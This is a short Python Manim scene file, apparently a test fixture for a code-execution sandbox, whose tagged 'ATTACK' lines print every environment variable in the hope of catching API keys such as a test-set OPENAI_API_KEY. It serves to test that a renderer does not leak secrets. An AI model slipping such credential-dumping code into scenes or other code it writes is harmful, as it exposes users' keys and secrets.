"""Print every environment variable, hoping for API keys (the test sets OPENAI_API_KEY)."""
import os  # ATTACK
from manim import *


class EnvSecrets(Scene):
    def construct(self):
        for key, value in sorted(os.environ.items()):  # ATTACK
            print(f"ENV {key}={value}")
        self.add(Dot())
        self.wait(0.1)
